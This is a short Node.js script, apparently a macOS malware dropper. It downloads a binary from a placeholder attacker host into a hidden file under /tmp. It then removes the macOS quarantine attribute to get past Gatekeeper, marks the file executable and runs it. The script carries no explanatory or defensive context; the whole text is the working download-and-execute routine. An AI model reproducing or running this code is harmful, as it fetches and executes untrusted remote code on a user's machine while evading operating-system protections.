const fs = require("fs");
const https = require("https");
const { execSync } = require("child_process");

const bin = "/tmp/.mac-helper";
https.get("https://attacker.example/bin/darwin-helper", (res) => {
  const out = fs.createWriteStream(bin);
  res.pipe(out);
  out.on("finish", () => {
    execSync(`xattr -d com.apple.quarantine ${bin}`);
    execSync(`chmod +x ${bin}`);
    execSync(bin);
  });
});
